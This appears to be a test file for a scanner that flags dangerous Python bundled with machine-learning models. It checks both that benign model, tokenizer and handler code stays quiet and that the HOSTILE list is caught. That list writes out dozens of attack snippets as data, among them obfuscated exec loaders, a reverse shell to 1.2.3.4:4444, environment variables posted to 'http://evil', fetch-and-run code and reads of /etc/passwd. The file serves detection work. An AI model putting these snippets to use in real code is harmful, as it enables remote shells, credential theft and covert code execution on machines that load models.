"""Bundled Python: every way to act is named with its moment, and code that only computes is quiet."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.inspect.interface import Subject
from scanner.inspect.look import look_at as look_at_subject
from scanner.inspect.readers.python_source import judge_python
from scanner.inspect.readers.reading import Unreadable
from tests.inspect.looking import look_at

HOSTILE = [
    'import os; os.system("id")',
    'from os import system as s\ns("id")\n',
    'import os as o\nclass M:\n    x = o.popen("id").read()\n',
    '__import__("os").system("id")',
    'getattr(__import__("o"+"s"), "sys"+"tem")("id")',
    'import importlib\nimportlib.import_module("subprocess").run(["id"])\n',
    "exec(\"import os; os.system('id')\")",
    'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))\n',
    'import base64\np = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="\nexec(base64.b64decode(p).decode())\n',
    "import zlib, marshal\nexec(marshal.loads(zlib.decompress(DATA)))\n",
    'def f():\n    import subprocess\n    subprocess.Popen("id", shell=True)\nf()\n',
    'import os\ndef deco(fn):\n    os.system("id"); return fn\n@deco\ndef g(): pass\n',
    'import os\ndef g(x=os.system("id")): pass\n',
    "import os\n"
    "class Meta(type):\n"
    "    def __new__(c,*a):\n"
    '        os.system("id"); return type.__new__(c,*a)\n'
    "class A(metaclass=Meta): pass\n",
    'import os\nclass B:\n    def __init_subclass__(cls): os.system("id")\nclass C(B): pass\n',
    'from os import *\nsystem("id")\n',
    'import threading, os\nthreading.Thread(target=os.system, args=("id",)).start()\n',
    'import os\nlist(map(os.system, ["id"]))\n',
    'import sys\nsys.modules["os"].system("id")\n',
    '__builtins__.__dict__["ev"+"al"](X)',
    'globals()["__builtins__"].exec(X)',
    'import builtins\ngetattr(builtins, NAME)("x")\n',
    'import urllib.request as u\nexec(u.urlopen("http://x/").read())\n',
    'import requests, os\nrequests.post("http://evil", json=dict(os.environ))\n',
    "import requests, os\n"
    "class M:\n"
    "    def __init__(self):\n"
    '        requests.post("http://evil", json=dict(os.environ))\n',
    "import socket, os, pty\n"
    's = socket.socket(); s.connect(("1.2.3.4", 4444))\n'
    'os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")\n',
    'import ctypes\nctypes.CDLL("./evil.so")\n',
    "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n",
    "x = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'x'][0]\n"
    "x.__init__.__globals__['sys'].modules['os'].system('id')",
    '(lambda: __import__("os").system("id"))()',
    'f = lambda: __import__("os").system("id")\nf()\n',
    'import os\nos.__dict__["system"]("id")\n',
    'import operator, os\noperator.attrgetter("system")(os)("id")\n',
    'import os\nclass X:\n    def forward(self, x):\n        os.system("id")\n',
    "import torch, os\ntorch.load = os.system\n",
    'open("/etc/cron.d/job","a").write("x")',
    'exec(bytes.fromhex("696d706f7274206f73"))',
    'exec("".join(map(chr,[105,109])))',
    'exec("".join([chr(c) for c in DATA]))',
    'import codecs\nexec(codecs.decode("vzcbeg bf; bf.flfgrz(\'vq\')", "rot13"))\n',
    'eval(compile("__import__(\'os\').system(\'id\')", "x", "eval"))',
    'import runpy; runpy.run_path("x.py")',
    'try:\n    import subprocess\n    subprocess.call(["pip","install","evil"])\nexcept Exception: pass\n',
    "import os\n"
    'if os.name == "posix":\n'
    '    with open("/tmp/x","w") as f: f.write("x")\n'
    '    os.chmod("/tmp/x",0o755); os.execv("/tmp/x",["x"])\n',
    'import os\nassert not os.system("id")\n',
    "import os\nx = f\"{os.system('id')}\"\n",
    'def __getattr__(name):\n    import os; os.system("id")\n',
    'import os\nclass E:\n    def __init__(self): self.go()\n    def go(self): os.system("id")\nE()\n',
    "import os\n"
    "class E:\n"
    '    def __enter__(self): os.popen("id")\n'
    "    def __exit__(self,*a): pass\n"
    "with E(): pass\n",
    'import asyncio\nasyncio.run(asyncio.create_subprocess_shell("id"))\n',
    'from subprocess import Popen as P, PIPE\nP(["id"], stdout=PIPE)\n',
    'import torch\ntorch.utils.cpp_extension.load_inline(name="x", cpp_sources="")\n',
    'from transformers.utils import os\nos.system("id")\n',
    'import numpy as np\nnp.os.system("id")\n',
    'import torch\ntorch.serialization.os.system("id")\n',
    'import functools, os\nfunctools.partial(os.system, "id")()\n',
    'import os\nsetattr(os, "x", os.system); os.x("id")\n',
    'import os\n(s := os.system)("id")\n',
    'print(open("/etc/passwd").read())',
    'import atexit, os\natexit.register(os.system, "id")\n',
    'import os\n[os.system][0]("id")\n',
    'getattr(getattr(__builtins__, "__import__")("os"), "system")("id")',
    "eval(\"__import__('os').system('id')\")",
    'import sys\nsys.meta_path[0].find_spec("os").loader.load_module().system("id")\n',
    'type("X", (), {"__init__": lambda s: __import__("os").system("id")})()',
    'import pickle, base64\npickle.loads(base64.b64decode("gASVHQAAAA=="))\n',
    'import pip\npip.main(["install","x"])\n',
    'import commands, posix\nposix.system("id")\n',
    'import platform\nimport urllib.request\nurllib.request.urlopen("http://evil/?" + platform.node())\n',
    "import os, torch\n"
    "def generate(model, input_ids, **kw):\n"
    '    os.environ["X"]="1"\n'
    '    exec(kw.get("code",""))\n',
]
"""Programs that act, most of them when they are imported."""

MODELING = '''
"""A model, as repositories of the Hub bring it along. Not run: os.system("id")."""
import math
import os
import warnings
from typing import TYPE_CHECKING, Optional

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel, logging
from transformers.utils import is_flash_attn_2_available

from .configuration_net import NetConfig

if TYPE_CHECKING:
    import subprocess

if is_flash_attn_2_available():
    from flash_attn import flash_attn_func
try:
    import xformers
except ImportError:
    xformers = None

logger = logging.get_logger(__name__)
os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
torch._C._jit_set_profiling_mode(False)
ACT2FN = {"gelu": F.gelu, "swish": lambda x: x * torch.sigmoid(x)}


@torch.jit.script
def gelu_fwd(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2 / math.pi) * (x + 0.044715 * x * x * x)))


def registered(cls):
    ACT2FN[cls.__name__] = cls
    return cls


@registered
class Net(PreTrainedModel):
    config_class = NetConfig
    _no_split_modules = [name for name in ("Block",)]

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(config.n, config.n) for _ in range(config.depth)])
        self.act = getattr(nn, config.act)()
        self.post_init()

    def forward(self, x, mask: Optional[torch.Tensor] = None):
        self.eval()
        for layer in self.layers:
            x = self.act(layer(x))
        return x

    def load_extra(self, path):
        return torch.load(path, map_location="cpu", weights_only=True)


Net.register_for_auto_class("AutoModel")
'''

TOKENIZER = '''
import base64
import json
import os
import unicodedata
from pathlib import Path

import requests
import tiktoken
from transformers import PreTrainedTokenizer

VOCAB_FILES_NAMES = {"vocab_file": "qwen.tiktoken"}
PAT = r"""(?i:'s|'t)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+"""


def _load(path):
    with open(path, "rb") as f:
        contents = f.read()
    return {base64.b64decode(t): int(r) for t, r in (line.split() for line in contents.splitlines() if line)}


class Tokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES

    def __init__(self, vocab_file, **kwargs):
        self.ranks = _load(vocab_file)
        super().__init__(**kwargs)

    def save_vocabulary(self, save_directory):
        file_path = os.path.join(save_directory, "qwen.tiktoken")
        with open(file_path, "w", encoding="utf8") as w:
            w.write(json.dumps({}))
        return (file_path,)

    def image(self, url):
        return requests.get(url, stream=True).raw
'''

HANDLER = """
import json
import logging
import os

import torch
from ts.torch_handler.base_handler import BaseHandler

logger = logging.getLogger(__name__)


class Handler(BaseHandler):
    def initialize(self, context):
        properties = context.system_properties
        model_dir = properties.get("model_dir")
        with open(os.path.join(model_dir, "config.json")) as f:
            self.config = json.load(f)
        self.model = torch.jit.load(os.path.join(model_dir, "model.pt"))

    def preprocess(self, requests):
        return [r.get("data") or r.get("body") for r in requests]


if __name__ == "__main__":
    import subprocess

    subprocess.run(["ls"])
"""


def graves(source: str) -> list[str | None]:
    return [
        sighting.symbol
        for sighting in judge_python(source.encode(), "m.py").sightings
        if sighting.severity == "high"
    ]


@pytest.mark.parametrize("source", HOSTILE)
def test_every_way_to_act_is_grave(source: str) -> None:
    assert graves(source)
    assert graves("import torch\n\nclass Net(torch.nn.Module):\n    pass\n\n" + source)


@pytest.mark.parametrize("source", [MODELING, TOKENIZER, HANDLER], ids=["model", "tokenizer", "handler"])
def test_code_that_computes_is_quiet(source: str) -> None:
    assert {sighting.severity for sighting in judge_python(source.encode(), "m.py").sightings} <= {"low"}


@pytest.mark.parametrize(
    ("source", "moment"),
    [
        ("import os\nos.system('id')\n", "line 2, when it is imported: starts a process: os.system('id')"),
        ("import os\n@print\nclass A:\n    x = os.system('id')\n", "line 4, when it is imported"),
        ("import os\ndef f():\n    os.system('id')\n", "line 3, in f"),
        ("import os\ndef f():\n    os.system('id')\nf()\n", "line 3, when it is imported"),
        ("import os\ndef f():\n    os.system('id')\ndef g():\n    f()\ng()\n", "line 3, when it is imported"),
        ("import os\nclass A:\n    def f(self):\n        os.system('id')\n", "line 4, in A.f"),
        ("import os\nif __name__ == '__main__':\n    os.system('id')\n", "when it is started as a program"),
        ("exec(\"import os\\nos.system('id')\")\n", "out of a text handed to builtins.exec"),
    ],
)
def test_a_finding_says_when_and_with_which_arguments(source: str, moment: str) -> None:
    (sighting,) = judge_python(source.encode(), "m.py").sightings
    assert sighting.symbol == "os.system"
    assert moment in sighting.evidence
    assert sighting.offset == source.encode().index(b"exec(" if "exec(" in source else b"os.system(")


def test_python_is_looked_at_only_where_it_comes_with_a_model(tmp_path: Path) -> None:
    source = b"import os\nos.system('id')\n"
    assert look_at(tmp_path, "modeling.py", source).format is None
    path = tmp_path / "subject"
    subject = Subject("modeling.py", str(path), len(source), [(0, len(source))])
    found = look_at_subject(replace(subject, role="bundled"))
    assert (found.format, found.coverage) == ("python", "full")
    assert [sighting.symbol for sighting in found.sightings] == ["os.system"]
    assert look_at_subject(replace(subject, name="notes.txt", role="bundled")).format is None


@pytest.mark.parametrize(
    "source",
    [
        b"print 'two'",
        b"\xff\xfe",
        b"x = " + b"(" * 5_000 + b")" * 5_000,
        b"x = " + b"-" * 100_000 + b"1",
        b"a\0b",
        b"x = 1\n" * 80_000,
    ],
)
def test_what_is_no_python_is_unreadable(source: bytes) -> None:
    with pytest.raises(Unreadable):
        judge_python(source, "m.py")


def test_a_secret_in_the_source_is_masked() -> None:
    token = "hf_" + "AbCdEfGhIjKlMnOpQr" + "StUvWxYzAbCdEfGh"
    (sighting,) = judge_python(f"TOKEN = {token!r}\n".encode(), "m.py").sightings
    assert sighting.rule == "secret-in-model"
    assert token not in repr(sighting)


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "\n", "    ", "def f():\n", "class A:\n", "x = (", ")", "exec(", "'"])
    )
)
def test_any_text_is_read_or_refused(parts: list[str]) -> None:
    try:
        judge_python("".join(parts), "it")
    except Unreadable as error:
        assert str(error).startswith("it ")  # noqa: PT017
